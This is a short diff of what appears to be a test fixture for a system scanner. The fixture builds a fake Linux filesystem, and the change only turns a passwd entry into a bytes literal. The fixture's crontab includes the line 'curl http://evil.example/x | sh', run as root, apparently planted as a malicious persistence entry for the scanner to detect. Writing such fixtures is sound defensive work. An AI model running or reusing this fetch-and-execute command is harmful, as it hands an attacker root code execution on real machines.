@@ -25,7 +25,7 @@ STORES = ("var/lib/quetsach", "ProgramData/QuetSach", "C:/ProgramData/QuetSach")
 LINUX = {
     "etc/hostname": b"may-02\n",
     "etc/machine-id": b"00112233445566778899aabbccddeeff\n",
-    "etc/passwd": "root:x:0:0::/root:/bin/sh\nan:x:1000:1000:An:/home/an:/bin/sh\n".encode(),
+    "etc/passwd": b"root:x:0:0::/root:/bin/sh\nan:x:1000:1000:An:/home/an:/bin/sh\n",
     "etc/hosts": b"127.0.0.1 localhost\n198.51.100.66 cong-van.example\n192.0.2.7 may-in\n",
     "etc/crontab": "# m h dom\n5 * * * * root curl http://evil.example/x | sh\n0 1 * * * root sao-luu # giữ\n".encode(),
     "etc/cron.d/backup": b"0 2 * * * root /usr/bin/true\n",
